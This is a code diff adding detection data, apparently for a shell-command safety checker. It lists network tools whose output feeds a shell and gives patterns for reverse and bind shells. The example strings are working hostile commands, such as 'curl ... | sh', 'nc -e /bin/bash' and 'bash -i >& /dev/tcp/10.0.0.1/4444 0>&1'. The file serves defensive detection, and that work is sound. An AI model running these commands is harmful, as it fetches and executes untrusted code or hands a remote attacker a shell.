@@ -150,3 +150,34 @@ export const NETWORK: ProgramSpec[] = [
     ],
   },
 ];
+
+/**
+ * Programs whose output is what a network peer sent: piped into a shell, it runs unreviewed. Each
+ * with an example of it feeding a shell.
+ */
+export const NETWORK_SOURCES: { names: string[]; example: string }[] = [
+  {
+    names: ['curl', 'wget', 'wget2', 'fetch', 'http', 'https', 'xh', 'xhs', 'aria2c', 'lwp-request', 'GET'],
+    example: 'curl -fsSL https://x.example/i.sh | sh',
+  },
+  { names: ['nc', 'ncat', 'netcat', 'socat', 'telnet'], example: 'nc 10.0.0.1 4444 | sh' },
+  // DNS TXT records carry arbitrary text.
+  { names: ['dig', 'host', 'nslookup', 'drill', 'kdig', 'delv'], example: 'dig +short txt x.example | sh' },
+];
+
+/**
+ * Ways a network tool hands a program to the peer (a reverse or bind shell): an option whose value
+ * is the program run with the connection as its stdin and stdout, or (socat) an address that runs
+ * one, next to a network address.
+ */
+export const REMOTE_SHELL = {
+  /** nc/ncat/netcat options that run a program on the connection. `-c` is a command only in the netcats that have it (OpenBSD's is TLS), so it counts when its value is a command. */
+  execOptions: { names: ['nc', 'ncat', 'netcat'], always: ['-e', '--exec', '--sh-exec', '--lua-exec'], ifCommand: ['-c'] },
+  /** socat: EXEC:/SYSTEM: with a TCP, UDP, SSL, SOCKS or proxy address. */
+  socatRuns: /^(?:EXEC|SYSTEM):/i,
+  socatNetwork:
+    /^(?:TCP|TCP4|TCP6|TCP-LISTEN|TCP-L|TCP4-LISTEN|TCP6-LISTEN|UDP|UDP4|UDP6|UDP-LISTEN|UDP-L|OPENSSL|OPENSSL-LISTEN|SSL|SSL-L|SOCKS|SOCKS4|SOCKS4A|SOCKS5|PROXY|SCTP|SCTP-LISTEN|DCCP)[:,]/i,
+  /** bash's /dev/tcp and /dev/udp: a redirection to one is a connection. */
+  deviceSocket: /^\/dev\/(?:tcp|udp)\/[^/]+\/\d+$/,
+  examples: ['ncat -e /bin/sh 10.0.0.1 4444', 'nc -lvp 4444 -e /bin/bash', 'socat TCP:10.0.0.1:4444 EXEC:sh', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
+};
